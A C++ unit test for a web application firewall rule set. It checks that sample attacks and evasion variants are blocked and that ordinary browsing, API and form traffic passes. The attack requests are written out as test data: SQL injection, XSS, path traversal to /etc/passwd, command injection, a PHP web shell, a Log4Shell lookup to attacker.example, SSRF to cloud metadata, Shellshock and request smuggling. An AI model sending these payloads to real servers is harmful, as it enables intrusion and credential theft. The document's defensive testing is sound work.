// The shipped rule set (rules/waf/*.yaml) compiles, blocks one clear attack of every family
// it covers, and passes ordinary browsing, API and form traffic. No EAL.
#include <algorithm>
#include <filesystem>
#include <gtest/gtest.h>
#include <string>
#include <vector>

#include "dataplane/waf/waf_engine.h"
#include "tests/unit/waf_test_support.h"

#ifndef GAUNTLET_SOURCE_ROOT
#error "GAUNTLET_SOURCE_ROOT must name the source tree (set in tests/unit/meson.build)"
#endif

namespace gauntlet {
namespace {

using waf_test::get;
using waf_test::post;
using waf_test::Runner;

class ShippedRulesTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    std::vector<std::string> files;
    for (const auto& e : std::filesystem::directory_iterator(GAUNTLET_SOURCE_ROOT "/rules/waf"))
      if (e.path().extension() == ".yaml") files.push_back(e.path().string());
    std::sort(files.begin(), files.end());
    std::string error;
    engine_ = build_waf_engine(files, 16384, error).release();
    ASSERT_NE(engine_, nullptr) << error;
  }
  static void TearDownTestSuite() { destroy_waf_engine(engine_); }

  static waf_test::Verdict run(const std::string& request) {
    Runner r(*engine_);
    return r.feed(request).at(0);
  }
  static WafEngine* engine_;
};
WafEngine* ShippedRulesTest::engine_ = nullptr;

TEST_F(ShippedRulesTest, BlocksOneClearAttackPerFamily) {
  const std::vector<std::pair<const char*, std::string>> attacks = {
      {"sqli", get("/products?id=1%27%20OR%20%271%27%3D%271")},
      {"sqli union", get("/item?id=-1+UNION+ALL+SELECT+username,password+FROM+users--")},
      {"sqli time", post("/login", "application/x-www-form-urlencoded",
                         "user=admin%27+AND+SLEEP(5)--+-&pass=x")},
      {"xss", get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")},
      {"xss handler", get("/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")},
      {"lfi", get("/download?file=../../../../etc/passwd")},
      {"lfi encoded", get("/download?file=..%252f..%252f..%252fetc%252fshadow")},
      {"rfi", get("/index.php?page=http://203.0.113.9/shell.txt?")},
      {"unix rce", get("/ping?host=127.0.0.1;cat+/etc/passwd")},
      {"windows rce", get("/run?cmd=x%26%26powershell+-enc+SQBFAFgA")},
      {"php", post("/comment", "application/x-www-form-urlencoded",
                   "text=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E")},
      {"log4shell", get("/", "User-Agent: ${jndi:ldap://attacker.example/a}\r\n")},
      {"java", post("/api", "application/json", R"({"class": "java.lang.Runtime"})")},
      {"ssrf", get("/fetch?url=http://169.254.169.254/latest/meta-data/")},
      {"shellshock", get("/cgi-bin/status", "Referer: () { :; }; /bin/bash -c id\r\n")},
      {"smuggling",
       "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n"
       "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
      {"body on get",
       "GET / HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n"
       "Content-Length: 3\r\n\r\nabc"},
      {"content-type smuggling", post("/api", "text/plain; boundary=\"application/json\"", "{}")},
      {"method override", get("/account/7?_method=DELETE")},
      {"obsolete range header", get("/big.iso", "Request-Range: bytes=0-99\r\n")},
      {"multipart name", post("/up", "multipart/form-data; boundary=b1",
                              "--b1\r\nContent-Disposition: form-data; name=\"a\"; "
                              "filename=\"x;.php\"\r\n\r\ndata\r\n--b1--\r\n")},
      {"ldap", get("/people?uid=jdoe)(%7C(objectClass%3D*")},
      {"session fixation", get("/login?laravel_session=eyJpdiI6")},
      {"sqli chained", post("/f", "application/x-www-form-urlencoded", "q=x%27+AND+7639%3D(")},
  };
  for (const auto& [name, request] : attacks) {
    Runner r(*engine_);
    const auto& v = r.feed(request);
    // A terminal protocol violation ends parsing; the dataplane resets such a flow.
    const bool blocked = !v.empty() && v[0].decision == WafDecision::block;
    EXPECT_TRUE(blocked) << name;
  }
}

// Evasions and variants of the attack classes, written for this test (not taken from the
// CRS regression suite the rules are measured against).
TEST_F(ShippedRulesTest, BlocksVariantsOfTheAttackClasses) {
  const char* form = "application/x-www-form-urlencoded";
  const std::vector<std::pair<const char*, std::string>> attacks = {
      {"lfi: /proc/net socket table", get("/view?file=/proc/net/arp")},
      {"log4shell: brace as a \\u escape",
       get("/?q=%24%5Cu007Bjndi%3Armi%3A%2F%2Fx.example%2Fa%7D")},
      {"php: comment before the argument list", post("/c", form, "x=phpinfo%2F%2A%2A%2F%28%29")},
      {"php: function name in hex escapes",
       post("/c", form, "x=%22%5Cx65val%22%28%24_POST%5Bc%5D%29")},
      {"php: command function as a word", post("/c", form, "x=passthru+%3D+%28%27id%27%29")},
      {"unix rce: background operator glued", get("/ping?host=8.8.8.8%26whoami")},
      {"unix rce: empty substitution in a word", get("/ping?host=who%24%28%29ami")},
      {"unix rce: blank after the separator", get("/ping?host=8.8.8.8%3B+cat+%2Fetc%2Fhostname")},
      {"unix rce: command line as user agent", get("/", "User-Agent: uname -a\r\n")},
      {"windows rce: WMI alias", get("/run?c=%3Bgwmi+-class+Win32_Service")},
      {"sqli: stacked statement as the value", get("/item?id=%3Bshutdown")},
      {"sqli: boolean glued between quotes", get("/login?u=bob%27or%27x")},
      {"sqli: comment inside keywords", get("/q?s=1+UN%2F%2A%2A%2FION+SEL%2F%2A%2A%2FECT+1")},
      {"sqli: escaped quote", get("/q?s=%5C%27+or+1%3D1")},
      {"xss: javascript: URI with an escape", get("/r?to=javascript:%5Cu0061lert(1)")},
      {"xss: data: URI carrying markup", get("/r?to=data:,%3Cimg+src%3Dx%3E")},
      {"ssrf: loopback wildcard domain", get("/fetch?url=http://app.lvh.me:8080/")},
      {"sqli: stacked statement as an XML text node",
       post("/api", "text/xml", "<r>\n  <id>;shutdown</id>\n</r>")},
      {"sqli: stacked statement as an XML attribute, entity-encoded",
       post("/api", "application/soap+xml", "<r id=\"&#x27;;shutdown\"/>")},
      {"sqli: value behind an encoded '=' in a name", post("/c", form, "id%3D%3Bshutdown")},
      {"sqli: boolean after a quote that opens nothing", get("/login?u=%27+or+admin")},
      {"sqli: sub-query assigned in a value", post("/c", form, "filter=price%3D%28select+name")},
      {"sqli: numeric id closed and UNION in the path", get("/item/7+union+distinct/x")},
      {"sqli: rest of a select list after a quote", get("/q?c=x%27+*+from+users")},
      {"sqli: SQL function name alone as the value", post("/c", form, "x=decode+%3D+%28")},
      {"sqli: statement in a custom header",
       get("/", "X-Request-Id: 7 UNION ALL SELECT password FROM users\r\n")},
      {"sqli: out of a JSON string into the object",
       get("/api?filter=%22%3A1%7D%2C%7B%22role%22%3A%22admin")},
      {"sqli: literal closed, column list continued", get("/item?id=%27%2C+null%2C+null")},
      {"sqli: literal closed, arithmetic continued", get("/q?n=%27+*+7")},
      {"sqli: a value of concatenated literals", get("/q?s=%22.%22.%22.%22")},
      {"sqli: a delay's time after a closing quote", get("/q?d=%270%3A0%3A9")},
      {"sqli: probe with two kinds of quote", get("/q?s=%60%22")},
      {"sqli: probe of a quote and comment marks", get("/q?s=%27%3F%3D--")},
      {"sqli: LIKE with its literal left open", get("/q?name=admin+like+%22")},
      {"sqli: boolean on a quoted number glued on", get("/q?id=x+and+%277%27y")},
      {"sqli: an UPDATE's assignment list", post("/c", form, "v=name+%3D+%27x%27%2C+%28-1%29")},
      {"sqli: a column name closed and assigned", get("/q?s=%2Cpassword%27%3Dx")},
      {"sqli: a literal closed and another opened", get("/q?id=7%22+%22+(")},
      {"sqli: a user name closed with a quote", post("/login", form, "user=root+%27")},
      {"sqli: MySQL DIV as a function", get("/q?x=div(100%2C7)")},
      {"overflow: one past the unsigned 64-bit range", get("/items?limit=18446744073709551616")},
      {"sqli: variable assigned after a bracket", get("/q?x=%27)+set+%40pw%3D1")},
      {"sqli: condition cut off after a path", get("/go?next=%2Faccount%2Fsettings+and+(")},
      {"sqli: statement glued to a comment", get("/q?s=--truncate")},
      {"unix rce: command word split by quotes", get("/ping?h=8.8.8.8%3B%27w%27hoami")},
  };
  for (const auto& [name, request] : attacks) {
    const auto v = run(request);
    EXPECT_EQ(v.decision, WafDecision::block) << name;
  }
}

TEST_F(ShippedRulesTest, ScannerUserAgentIsBlocked) {
  EXPECT_EQ(run(get("/", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n")).decision,
            WafDecision::block);
}

TEST_F(ShippedRulesTest, PassesOrdinaryTraffic) {
  const std::vector<std::string> requests = {
      get("/"),
      get("/search?q=union+station+opening+hours&page=2"),
      get("/blog/2024/05/select-the-best-laptop?utm_source=newsletter&utm_medium=email"),
      get("/products?category=shoes&sort=price_asc&size=42",
          "Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\n"
          "Cookie: session=abc123; theme=dark; cart=3\r\n"
          "Referer: https://www.example.com/products?category=shoes\r\n"),
      post(
          "/api/v1/orders", "application/json",
          R"({"items":[{"sku":"A-100","qty":2}],"note":"Leave at the door, or with a neighbour"})"),
      post("/contact", "application/x-www-form-urlencoded",
           "name=Jane+O%27Brien&email=jane%40example.com&message=Is+it+1+or+2+days%3F+Thanks%21"),
      post("/upload", "multipart/form-data; boundary=b1",
           "--b1\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos\r\n"
           "--b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\n"
           "Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0 binary data\r\n--b1--\r\n"),
      get("/docs/user-guide-en.pdf", "Range: bytes=0-1023\r\n"),
      get("/stats?sid=8f2a&cid=1.2&ssid=home-wifi"),  // analytics visit ids are not sessions
      get("/search?q=salt+and+pepper+%28ground%29&order=newest"),
      get("/wiki/Function_(mathematics)?oldid=12"),
      post("/api/v1/upload", "application/octet-stream", "\x01\x02binary"),
      // prose: a semicolon before words that are also command names, quotes and dashes,
      // SQL words and conditions as people write them
      post("/comment", "application/x-www-form-urlencoded",
           "text=Great+product%3B+find+more+at+our+store%3B+time+to+go+home%3B+more+or+less"),
      post("/comment", "application/x-www-form-urlencoded",
           "text=%22and+when+the+kids+are+older&quote=Mark+said%3A+%22it%27s+fine%22+--+really"),
      get("/search?q=please+delete+from+my+account+the+old+address"),
      post("/comment", "application/x-www-form-urlencoded",
           "text=Use+%22+or+%27+around+names%2C+and+the+%27a%27+or+%27b%27+option"),
      get("/search?q=team+2+union+rules"),
      get("/search?q=if+%282+%3E+1%29+then+what"),
      get("/search?q=top+10+laptops+%7C+reviews%3B+w%2Fo+fan"),
      // XML APIs: apostrophes, SQL words and URLs in attribute values and text
      post("/soap", "text/xml; charset=utf-8",
           "<?xml version=\"1.0\"?>\n<soap:Envelope "
           "xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">\n"
           "  <soap:Body><GetWeather><CityName>Saint-Jean-d'Ang\xc3\xa9ly</CityName>"
           "</GetWeather></soap:Body>\n</soap:Envelope>"),
      post("/api/orders", "application/xml",
           "<order id=\"10021\" status=\"pending\"><customer>Jane O'Connor</customer>"
           "<item sku=\"AB-1\" qty=\"2\">Men's shoes - select your size</item>"
           "<note>Socks &amp; laces; or drop them at the door</note></order>"),
      get("/", "X-Request-Id: 4f1c9a-union-select-7\r\nIf-None-Match: \"33a64df5\"\r\n"),
      // quotes, numbers and operators as ordinary values carry them
      get("/search?q=%22like%22+button+design&sort=new"),
      get("/export?delimiter=%3B&quote=%22&escape=%5C"),
      get("/search?q=rock+%27n%27+roll+the+smiths%27+greatest+hits"),
      get("/api/stats?max=2147483647&min=-2147483648&unsigned=4294967295"),
      post("/api", "application/json", R"({"expr":"a*b","ratio":"3/4","time":"10:30"})"),
      get("/quote?text=%27Hello%27%2C+she+said%2C+%27it%27s+5%3A30%27"),
      get("/search?q=%27don%27t+stop%27+%27we%27re+here%27+%27i%27ll+go%27+lyrics"),
      post("/import", "application/x-www-form-urlencoded",
           "row=%22Smith%22%2C%22John%22%2C42&go=%2Fblog%2Fsalt-and-pepper"),
  };
  for (const std::string& request : requests) {
    const auto v = run(request);
    EXPECT_EQ(v.decision, WafDecision::pass)
        << request << "\nmatched: " << ::testing::PrintToString(v.rules) << " " << v.excerpt;
  }
}

}  // namespace
}  // namespace gauntlet
